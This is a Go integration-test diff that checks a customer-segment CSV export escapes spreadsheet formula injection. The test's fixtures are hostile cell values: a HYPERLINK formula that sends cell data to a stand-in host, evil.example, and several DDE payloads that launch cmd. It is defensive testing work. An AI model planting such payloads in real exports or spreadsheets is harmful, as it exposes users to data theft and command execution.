@@ -6,7 +6,9 @@ import (
 	"fmt"
 	"net/http"
 	"net/url"
+	"slices"
 	"sort"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -216,4 +218,49 @@ func TestSegmentHistoryAndAlertsIntegration(t *testing.T) {
 		code, _ := e.do("GET", "/api/v1/alerts?reason=DROP", nil)
 		assert.Equal(t, http.StatusBadRequest, code)
 	})
+}
+
+// A segment export opened as a spreadsheet would open it: no text cell
+// starts with a formula prefix, and numbers stay numbers (-1 is -1).
+func TestSegmentCSVNeutralisesFormulasIntegration(t *testing.T) {
+	e := newEnv(t)
+	ctx := context.Background()
+	now := time.Now()
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"}
+	b, err := e.conn.PrepareBatch(ctx, "INSERT INTO "+e.db+`.customer_scores (customer_id, computed_at, computed_ms, health, churn_risk, churn_reasons,
+ lifecycle, rfm_segment, loyalty_stage, version)`)
+	require.NoError(t, err)
+	for _, id := range hostile {
+		require.NoError(t, b.Append(id, now, now.UnixMilli(), 42.5, "high", []string{"=1+1", "-1"}, "=lifecycle", "@rfm", "+loyalty", uint64(1)))
+	}
+	require.NoError(t, b.Send())
+
+	code, body := e.do("GET", "/api/v1/segments/churn_risk_high?format=csv", nil)
+	require.Equal(t, http.StatusOK, code, string(body))
+	recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, recs, len(hostile)+1)
+	header := recs[0]
+	numeric := map[string]bool{"health": true, "nps_latest": true, "days_since_activity": true, "contract_ends_in_days": true}
+	ids := map[string]bool{}
+	for _, rec := range recs[1:] {
+		for i, cell := range rec {
+			if numeric[header[i]] {
+				if cell != "" {
+					_, err := strconv.ParseFloat(cell, 64)
+					assert.NoError(t, err, "%s = %q is not a number", header[i], cell)
+				}
+				continue
+			}
+			if cell != "" {
+				assert.NotContains(t, "=+-@\t\r", cell[:1], "text cell %s = %q starts with a formula prefix", header[i], cell)
+			}
+		}
+		ids[strings.TrimPrefix(rec[0], "'")] = true
+		col := slices.Index(header, "days_since_activity")
+		assert.Equal(t, "-1", rec[col], "a customer without activity: the integer -1 stays -1")
+	}
+	for _, id := range hostile {
+		assert.True(t, ids[id], "customer %q is in the export behind one apostrophe", id)
+	}
 }
